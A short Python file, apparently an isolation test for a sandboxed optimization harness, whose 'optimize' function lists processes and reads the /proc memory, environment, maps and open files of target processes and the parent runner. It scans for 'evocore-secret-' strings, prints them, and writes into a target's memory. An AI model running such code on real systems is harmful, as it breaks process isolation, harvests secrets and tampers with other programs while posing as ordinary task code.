"""Read memory, environment and files of other processes, and list which there are."""

import os
import re

WHAT = ("mem", "environ", "maps", "cmdline", "auxv", "stack", "syscall", "status", "exe", "cwd", "root", "fd")


def optimize(problem, start, seed, deadline, offer):
    attempt("listed the processes of the machine", list_processes)
    for who, pid in {**TARGETS["processes"], "runner": os.getppid()}.items():
        for what in WHAT:
            path = f"/proc/{pid}/{what}"
            if what in ("exe", "cwd", "root"):
                attempt(f"read {what} of the {who}", os.readlink, path)
            elif what == "fd":
                attempt(f"listed the open files of the {who}", os.listdir, path)
                for number in range(32):
                    attempt(f"opened file {number} of the {who}", os.open, f"{path}/{number}", os.O_NONBLOCK)
            elif who != "runner":
                attempt(f"read {what} of the {who}", read, path, TARGETS["address"] if what == "mem" else 0)
    attempt("wrote into the target's memory", write_memory)
    return start


def list_processes():
    others = [name for name in os.listdir("/proc") if name.isdigit() and int(name) in TARGETS["processes"].values()]
    if not others:
        raise LookupError


def read(path, position):
    file = os.open(path, os.O_RDONLY)
    content = quietly(os.pread, file, 4096, position) or b""
    os.close(file)
    for found in re.findall(rb"evocore-secret-[0-9a-f]+", content):
        print(found.decode())


def write_memory():
    file = os.open(f"/proc/{TARGETS['processes']['target']}/mem", os.O_RDWR)
    os.pwrite(file, b"overwritten", TARGETS["address"])
